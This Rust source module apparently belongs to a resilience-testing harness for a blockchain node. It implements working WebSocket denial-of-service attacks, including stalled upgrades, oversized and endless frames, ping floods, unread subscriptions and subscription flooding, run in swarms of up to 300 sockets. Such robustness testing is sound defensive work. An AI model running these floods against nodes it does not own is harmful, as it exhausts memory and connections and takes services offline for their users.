//! Attacks over WebSocket: aborted upgrades, endless messages, pings, and subscribers that stop reading or subscribe to
//! too much.

use std::time::Duration;

use anyhow::{Result, ensure};
use serde_json::json;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::{sleep, timeout},
};

use super::{
    attack::{Attack, AttackContext, AttackInfo, AttackSurface, FnAttack},
    calls::topics,
    http::{PATIENCE, connect, linger},
};

pub(super) const ALL: &[&dyn Attack] = &[
    &HALF_UPGRADES,
    &HUGE_FRAMES,
    &ENDLESS_FRAGMENTS,
    &PING_FLOOD,
    &LONG_MESSAGES,
    &UNREAD_NEWS,
    &MANY_SUBSCRIPTIONS,
];

/// More sockets than the node allows.
const MANY: usize = 300;
const UPGRADE: &str = "GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
    Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
/// First bytes of frames (RFC 6455, 5.2).
const TEXT: u8 = 0x81;
const FIRST_FRAGMENT: u8 = 0x01;
const FRAGMENT: u8 = 0x00;
const PING: u8 = 0x89;
/// Bytes of a long message that the node accepts by default.
const MESSAGE_BYTES: usize = 2 << 20;

/// Returns the head of a frame of `len` bytes, masked with zeros.
fn head(first: u8, len: usize) -> Vec<u8> {
    let mut head = vec![first];
    match len {
        0..=125 => head.push(0x80 | u8::try_from(len).unwrap_or_default()),
        126..=0xffff => {
            head.push(0x80 | 126);
            head.extend(u16::try_from(len).unwrap_or_default().to_be_bytes());
        }
        _ => {
            head.push(0x80 | 127);
            head.extend((len as u64).to_be_bytes());
        }
    }
    head.extend([0; 4]);
    head
}

fn frame(first: u8, payload: &[u8]) -> Vec<u8> {
    [&head(first, payload.len()), payload].concat()
}

/// Opens a socket from an attacker's address.
async fn open(field: &AttackContext, index: usize) -> Result<TcpStream> {
    let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
    stream.write_all(UPGRADE.as_bytes()).await?;
    let mut answer = [0; 1024];
    let len = timeout(PATIENCE, stream.read(&mut answer)).await??;
    ensure!(answer[..len].starts_with(b"HTTP/1.1 101"), "the node refuses the WebSocket upgrade");
    Ok(stream)
}

fn subscribe(kind: &str, filter: &serde_json::Value) -> Vec<u8> {
    let params = if filter.is_null() { json!([kind]) } else { json!([kind, filter]) };
    let text = json!({ "jsonrpc": "2.0", "id": 1, "method": "eth_subscribe", "params": params }).to_string();
    frame(TEXT, text.as_bytes())
}

const HALF_UPGRADES: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "ws-half-upgrades",
        "300 connections that become sockets and then stay silent, or stop in the middle of the upgrade request",
    ),
    start: |field| {
        Box::pin(field.swarm(MANY, Duration::from_millis(200), |field, index| async move {
            let mut stream = if index % 3 == 0 {
                let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
                stream.write_all(&UPGRADE.as_bytes()[..80]).await?;
                stream
            } else {
                open(&field, index).await?
            };
            field.tally.done();
            linger(&mut stream).await;
            Ok(())
        }))
    },
};

const HUGE_FRAMES: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "ws-huge-frames",
        "120 sockets with frames that announce 2 MiB or 4 GiB, and arrive slowly",
    ),
    start: |field| {
        Box::pin(field.swarm(120, Duration::from_millis(200), |field, index| async move {
            let mut stream = open(&field, index).await?;
            let len = if index % 4 == 0 { 4 << 30 } else { MESSAGE_BYTES };
            stream.write_all(&head(TEXT, len)).await?;
            let part = vec![b'['; 64 << 10];
            loop {
                stream.write_all(&part).await?;
                field.tally.done();
                sleep(Duration::from_millis(250)).await;
            }
        }))
    },
};

const ENDLESS_FRAGMENTS: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "ws-endless-fragments",
        "40 sockets whose message never ends, half of them with empty fragments",
    ),
    start: |field| {
        Box::pin(field.swarm(40, Duration::from_millis(200), |field, index| async move {
            let mut stream = open(&field, index).await?;
            stream.write_all(&frame(FIRST_FRAGMENT, b"[")).await?;
            let part = if index % 2 == 0 {
                head(FRAGMENT, 0).repeat(2_000)
            } else {
                frame(FRAGMENT, &[b'['; 1 << 10])
            };
            loop {
                stream.write_all(&part).await?;
                field.tally.done();
                sleep(Duration::from_millis(5)).await;
            }
        }))
    },
};

const PING_FLOOD: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "ws-ping-flood",
        "40 sockets that send pings as fast as they are read",
    ),
    start: |field| {
        Box::pin(field.swarm(40, Duration::from_millis(100), |field, index| async move {
            let mut stream = open(&field, index).await?;
            let pings = frame(PING, &[0; 125]).repeat(100);
            loop {
                stream.write_all(&pings).await?;
                field.tally.done();
                sleep(Duration::from_millis(5)).await;
            }
        }))
    },
};

/// Returns a request with a long answer: a batch with all of its transactions.
fn heavy_question(field: &AttackContext) -> String {
    let number = format!("{:#x}", field.target.heavy_batch);
    json!({ "jsonrpc": "2.0", "id": 2, "method": "eth_getBlockByNumber", "params": [number, true] })
        .to_string()
}

const LONG_MESSAGES: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "ws-long-messages",
        "100 sockets that send 2 MiB each, read a long answer, and stay open, so that the node might keep the memory of both",
    ),
    start: |field| {
        Box::pin(field.swarm(100, Duration::from_millis(500), |field, index| async move {
            let mut stream = open(&field, index).await?;
            let mut message = heavy_question(&field).into_bytes();
            message.resize(MESSAGE_BYTES, b' ');
            stream.write_all(&frame(TEXT, &message)).await?;
            let mut some = vec![0; 64 << 10];
            while let Ok(read) = timeout(PATIENCE, stream.read(&mut some)).await {
                ensure!(read? > 0, "the node hung up");
                field.tally.done();
            }
            Ok(())
        }))
    },
};

const UNREAD_NEWS: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "ws-unread-news",
        "100 sockets that subscribe to everything, request long answers, and read nothing",
    )
    .quick(),
    start: |field| {
        Box::pin(field.swarm(100, Duration::from_millis(500), |field, index| async move {
            let mut stream = open(&field, index).await?;
            for (kind, filter) in
                [("newHeads", json!(null)), ("logs", json!({})), ("newPendingTransactions", json!(true))]
            {
                stream.write_all(&subscribe(kind, &filter)).await?;
            }
            let block = frame(TEXT, heavy_question(&field).as_bytes());
            // A write times out once the kernel's buffers are full, because the node does not read on.
            while let Ok(written) = timeout(PATIENCE, stream.write_all(&block)).await {
                written?;
                field.tally.done();
                sleep(Duration::from_millis(100)).await;
            }
            Ok(())
        }))
    },
};

const MANY_SUBSCRIPTIONS: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "ws-many-subscriptions",
        "100 sockets with the maximum number of subscriptions: to logs with 1,000 topics, to every transaction, or to heads",
    ),
    start: |field| {
        Box::pin(field.swarm(100, Duration::from_millis(500), |field, index| async move {
            let mut stream = open(&field, index).await?;
            let mut news = vec![0; 64 << 10];
            let mut asked = 0;
            loop {
                let message = match (index + asked) % 3 {
                    0 => subscribe("logs", &json!({ "topics": [topics(index + asked)] })),
                    1 => subscribe("newPendingTransactions", &json!(true)),
                    _ => subscribe("newHeads", &json!(null)),
                };
                asked += 1;
                if asked <= 300 {
                    stream.write_all(&message).await?;
                    field.tally.done();
                }
                while let Ok(read) = timeout(Duration::from_millis(10), stream.read(&mut news)).await {
                    ensure!(read? > 0, "the node hung up");
                }
            }
        }))
    },
};

#[cfg(test)]
mod tests {
    use super::*;

    /// Goal: frame heads match the examples of the RFC.
    #[test]
    fn frames_have_the_three_lengths() {
        assert_eq!(frame(TEXT, b"Hi"), [0x81, 0x82, 0, 0, 0, 0, b'H', b'i']);
        assert_eq!(head(PING, 125), [0x89, 0xfd, 0, 0, 0, 0]);
        assert_eq!(head(FRAGMENT, 256), [0x00, 0xfe, 1, 0, 0, 0, 0, 0]);
        assert_eq!(head(FIRST_FRAGMENT, 1 << 16), [0x01, 0xff, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    }
}
